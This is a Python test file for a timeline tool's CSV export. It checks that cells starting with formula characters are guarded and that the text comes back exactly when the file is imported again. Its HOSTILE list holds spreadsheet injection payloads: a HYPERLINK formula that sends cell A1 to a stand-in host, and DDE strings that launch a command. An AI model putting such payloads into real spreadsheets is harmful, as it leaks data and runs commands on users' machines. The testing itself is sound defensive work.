"""CSV formula injection (OWASP, issue 14): no exported cell starts a spreadsheet formula, the text stays
readable, and importing the file gives back exactly the text that was exported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from timeline.io.csvfile import FORMULA_TRIGGERS, csv_text, export_csv, guard_cell, import_csv, unguard_cell
from timeline.model import Event, MentionRef, Source, Timeline, TimeSpan

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by someone",
    "''+two quotes",
    "'just an apostrophe",
    "=",
    "普通標題",
]


def _timeline() -> Timeline:
    text = "=1+1 開頭的句子。-3 是另一句。"
    src = Source(id="s1", title="@source title", text=text, path="")
    events = []
    for i, title in enumerate(HOSTILE):
        events.append(Event(
            id=f"e{i}", time=TimeSpan.from_value("2026-02-05"), title=title, summary="+" + title,
            actors=["=Actor", "Normal"], tags=["-tag"], lanes={"actor": "=Actor"},
            mentions=[MentionRef("s1", 0, 4, text[0:4], 0, 11, "2026-02-05", "day", None)]))
    return Timeline(sources=[src], events=events, title="t")


def test_no_cell_starts_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(_timeline()))))
    cells = [c for row in rows[1:] for c in row]
    assert cells
    assert not any(c.startswith(FORMULA_TRIGGERS) for c in cells)
    # readable: the text is all there, after one guard quote
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert titles[0] == "'" + HOSTILE[0] and titles[-1] == "普通標題"
    assert titles[HOSTILE.index("'just an apostrophe")] == "'just an apostrophe"
    sentence = rows[1][rows[0].index("sentence")]
    assert sentence == "'=1+1 開頭的句子。"


def test_tab_and_carriage_return_cells_are_guarded() -> None:
    assert guard_cell("\tcmd") == "'\tcmd"
    assert guard_cell("\r=1") == "'\r=1"


def test_round_trip_through_import(tmp_path: Path) -> None:
    tl = _timeline()
    out = tmp_path / "t.csv"
    export_csv(tl, out)
    back = import_csv(out)
    assert [e.title for e in back.events] == HOSTILE
    assert [e.summary for e in back.events] == ["+" + t for t in HOSTILE]
    assert back.events[0].actors == ["=Actor", "Normal"] and back.events[0].tags == ["-tag"]
    assert back.events[0].lanes == {"actor": "=Actor"}
    assert {s.title for s in back.sources} == {"@source title"}


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "字", " "]), max_size=8))
def test_guard_is_undone_exactly(s: str) -> None:
    g = guard_cell(s)
    assert not g.startswith(FORMULA_TRIGGERS)
    assert unguard_cell(g) == s


def test_a_hand_made_csv_without_guards_reads_as_before(tmp_path: Path) -> None:
    f = tmp_path / "mine.csv"
    f.write_text("title,start\n'quoted title,2026-01-01\n-minus,2026-01-02\n", encoding="utf-8")
    assert [e.title for e in import_csv(f).events] == ["'quoted title", "-minus"]
